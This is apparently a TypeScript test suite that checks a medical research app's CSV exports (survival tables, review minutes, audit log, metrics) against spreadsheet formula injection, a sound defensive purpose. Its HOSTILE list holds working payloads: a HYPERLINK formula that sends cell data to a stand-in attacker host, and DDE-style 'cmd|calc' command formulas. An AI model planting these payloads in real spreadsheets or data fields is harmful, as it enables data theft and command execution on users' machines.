/**
 * Formula injection through every CSV export (issue: KM group names and Cox table cells starting
 * with =, @, + or - in /api/outcomes/table). Hostile strings are planted where each export takes
 * text from data: outcome clinical values (KM groups, Cox covariate levels), a review comment and
 * a reviewer's name (minutes), an audit event's target and user agent (audit log), a ROI name
 * and metric values (metrics CSV). Every cell of every export is then parsed back (RFC 4180) and
 * checked: a cell a spreadsheet would evaluate must start with an apostrophe; negative numbers
 * must still be plain numbers.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Caller } from '@/lib/server/auth/roles';
import { runOutcomeAnalysis } from '@/lib/server/outcomes/run-outcome-analysis';
import { formatOutcomeTableCsv, OUTCOME_TABLES } from '@/lib/server/outcomes/format-outcome-table-csv';
import { findMeetingMinutes, minutesCsvRows } from '@/lib/server/review/find-meeting-minutes';
import { recordReviewDecision } from '@/lib/server/review/record-review-decision';
import { formatMinutesCsv } from '@/lib/core/review/format-minutes-csv';
import { recordAuditEvent } from '@/lib/server/audit/record-audit-event';
import { iterateAuditEvents } from '@/lib/server/audit/find-audit-events';
import { auditCsvHeader, auditCsvLine } from '@/lib/server/audit/format-audit-csv';
import { exportStudyMetricsCsv } from '@/lib/server/studies/export-study-metrics-csv';
import { createTestDatabase, type TestDatabase } from '../helpers/test-database';
import { seedOutcomeCohort } from '../outcomes/seed-outcome-cohort';

const who = (role: Caller['role'], name = `Test ${role}`): Caller => ({ userId: `u-${role}`, email: `${role.toLowerCase()}@example.org`, name, role });
const RESEARCHER = who('RESEARCHER');
const PHYSICIST = who('PHYSICIST');
const ADMIN = who('ADMIN');
const HOSTILE_REVIEWER = who('REVIEWER', '@SUM(1+1)*cmd|calc');

const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', '@SUM(1+1)*cmd|calc', '+1+cmd|calc', '-2+3+cmd|calc', '\t=1+1', '\r=2+2'];

/** RFC 4180 parser: rows of cells, quotes undone. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

const PLAIN_NUMBER = /^-?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;

/** Cells a spreadsheet would run as a formula. */
function formulas(csv: string): string[] {
  return parseCsv(csv)
    .flat()
    .filter((c) => /^(?:[\t\r\n]|[ \u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20])/.test(c) && !PLAIN_NUMBER.test(c));
}

describe('CSV exports are formula-safe', () => {
  let t: TestDatabase;
  let studyId: string;

  beforeAll(async () => {
    t = await createTestDatabase('csv_exports');
    await seedOutcomeCohort(t.db);
    // hostile clinical values: KM groups (categorical grouping) and Cox covariate levels
    const outcomes = await t.db.outcome.findMany({ orderBy: { patientId: 'asc' } });
    for (const [i, o] of outcomes.entries()) {
      await t.db.outcome.update({ where: { id: o.id }, data: { clinical: { ...(o.clinical as object), site: HOSTILE[i % 3] } } });
    }
    // a study with a hostile ROI name and negative metric values
    const inst = await t.db.institution.findFirstOrThrow();
    const patient = await t.db.patient.create({ data: { pseudonym: 'P-CSV', institutionId: inst.id } });
    const study = await t.db.study.create({ data: { patientId: patient.id, studyInstanceUid: '2.25.424242', contentHash: 'csv-test' } });
    studyId = study.id;
    const series = await t.db.imageSeries.create({
      data: {
        studyId,
        seriesInstanceUid: '2.25.424243',
        modality: 'CT',
        phaseIndex: 0,
        phasePercent: 0,
        dims: [2, 2, 2],
        spacingMm: [1, 1, 1],
        originMm: [0, 0, 0],
        direction: [1, 0, 0, 0, 1, 0, 0, 0, 1],
      },
    });
    const ref = await t.db.physicianStructure.create({ data: { studyId, seriesId: series.id, name: HOSTILE[0], kind: 'GTV', phaseIndex: 0, phasePercent: 0 } });
    const mv = await t.db.modelVersion.findFirstOrThrow();
    const run = await t.db.segmentationRun.create({ data: { studyId, modelVersionId: mv.id, status: 'SUCCEEDED', finishedAt: new Date() } });
    const test = await t.db.machineStructure.create({ data: { runId: run.id, seriesId: series.id, kind: 'GTV', phaseIndex: 0, label: 'GTV:phase:0' } });
    await t.db.metricResult.create({
      data: {
        studyId,
        runId: run.id,
        referenceStructureId: ref.id,
        testStructureId: test.id,
        convention: 'discordance',
        values: { falsePositive: [{ centroidMm: [-12.5, -0.5, 3], volumeCc: 0.5 }] },
        codeVersion: '-1+cmd|calc',
        spacingMm: [1, 1, 1],
        dims: [2, 2, 2],
      },
    });
    // hostile minutes: the comment and the reviewer's own name
    await t.db.user.create({
      data: { id: HOSTILE_REVIEWER.userId, email: HOSTILE_REVIEWER.email, name: HOSTILE_REVIEWER.name, passwordHash: 'x', role: 'REVIEWER' },
    });
    await recordReviewDecision(t.db, { caller: HOSTILE_REVIEWER, input: { studyId, decision: 'DISCUSS', comment: HOSTILE[0], meeting: '2026-12-01' } });
    // hostile audit rows: target and user agent come from requests
    await recordAuditEvent(t.db, {
      action: 'test.hostile',
      caller: { ...PHYSICIST, userAgent: HOSTILE[3] },
      target: HOSTILE[2],
      details: { note: HOSTILE[1] },
    });
  }, 120_000);

  afterAll(async () => t?.drop());

  it('outcome tables (KM by a hostile categorical column, Cox with its levels): no formula cell; negative coefficients stay numbers', async () => {
    const a = await runOutcomeAnalysis(t.db, {
      caller: RESEARCHER,
      request: {
        covariates: ['clinical:site', 'metric:falsePositiveFraction'],
        grouping: { kind: 'categorical', covariate: 'clinical:site' },
        riskTimesDays: [0, 365],
      },
    });
    const km = formatOutcomeTableCsv(a, 'km');
    const cox = formatOutcomeTableCsv(a, 'cox');
    expect(km, 'the KM table was computed').not.toBeNull();
    expect(cox, 'the Cox table was computed').not.toBeNull();
    // the hostile text does reach the tables (as text)
    expect(km).toContain("'=HYPERLINK(");
    expect(km! + cox!).toContain("'@SUM(1+1)");
    for (const table of OUTCOME_TABLES) {
      const text = formatOutcomeTableCsv(a, table);
      if (text !== null) expect(formulas(text), table).toEqual([]);
    }
    const [header, ...rows] = parseCsv(cox!);
    const coefColumn = header!.indexOf('coef');
    expect(coefColumn, 'the Cox CSV has a coef column').toBeGreaterThanOrEqual(0);
    const coefs = rows.map((r) => r[coefColumn]!);
    expect(
      coefs.some((c) => c.startsWith('-')),
      'a negative coefficient to check',
    ).toBe(true);
    for (const c of coefs) expect(c, 'coefficients are plain numbers').toMatch(PLAIN_NUMBER);
  });

  it('review minutes (hostile comment and reviewer name): no formula cell', async () => {
    const m = await findMeetingMinutes(t.db, { caller: PHYSICIST, meeting: '2026-12-01', purpose: 'export' });
    const csv = formatMinutesCsv(minutesCsvRows(m), { identified: m.identified });
    expect(csv).toContain("'@SUM(1+1)");
    expect(formulas(csv)).toEqual([]);
  });

  it('audit log (hostile target, user agent, details): no formula cell', async () => {
    let csv = auditCsvHeader();
    for await (const batch of iterateAuditEvents(t.db, { caller: ADMIN, search: {} })) csv += batch.map(auditCsvLine).join('');
    expect(csv).toContain("'+1+cmd|calc");
    expect(csv).toContain("'-2+3+cmd|calc");
    expect(formulas(csv)).toEqual([]);
  });

  it('metrics CSV (hostile ROI name and code version; negative centroid): no formula cell, negatives are numbers', async () => {
    const { csv } = await exportStudyMetricsCsv(t.db, { caller: RESEARCHER, studyId });
    expect(formulas(csv)).toEqual([]);
    expect(csv).not.toContain('HYPERLINK'); // the ROI name is not exported at all ("GTV 0%")
    const rows = parseCsv(csv);
    const value = (metric: string) => rows.find((r) => r[12] === metric)![13];
    expect(value('falsePositive#1.centroidMm[0]')).toBe('-12.5');
    expect(value('falsePositive#1.centroidMm[1]')).toBe('-0.5');
    expect(rows[1][16]).toBe("'-1+cmd|calc");
  });
});
